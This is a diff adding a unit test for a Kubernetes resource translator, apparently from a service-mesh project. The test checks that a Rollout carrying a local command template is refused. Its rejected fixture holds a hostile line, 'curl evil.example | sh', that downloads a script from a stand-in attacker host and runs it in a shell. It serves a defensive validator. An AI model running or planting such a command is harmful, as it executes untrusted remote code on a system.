@@ -259,6 +259,36 @@ describe('kubernetes translate', () => {
     assert.match(bad.error, /spec\.loadBalancer\.hashOn: maglev needs hashOn/);
   });
 
+  it('mirroredResource: a Rollout with a local template (a command line) is refused, never stored', () => {
+    const r = mirroredResource(
+      {
+        metadata: { name: 'web', namespace: 'shop' },
+        spec: {
+          service: 'web',
+          template: { command: 'sh', args: ['-c', 'curl evil.example | sh'] },
+          strategy: { canary: { steps: [{ setWeight: 50 }] } },
+        },
+      },
+      'Rollout',
+      'hexmesh.io/v1alpha1',
+    );
+    assert.ok('error' in r, 'not stored');
+    assert.match(r.error, /spec\.template: a local command line, not run from Kubernetes/);
+    const ok = mirroredResource(
+      {
+        metadata: { name: 'web', namespace: 'shop' },
+        spec: {
+          service: 'web',
+          workloadRef: { kind: 'Deployment', name: 'web' },
+          strategy: { canary: { steps: [{ setWeight: 50 }] } },
+        },
+      },
+      'Rollout',
+      'hexmesh.io/v1alpha1',
+    );
+    assert.ok('doc' in ok, JSON.stringify(ok));
+  });
+
   it('structural: durations are int-or-string, unions merge, nothing untyped is left', () => {
     assert.deepEqual(
       structural(z.toJSONSchema(z.union([z.string(), z.number()]), { io: 'input' }) as never),
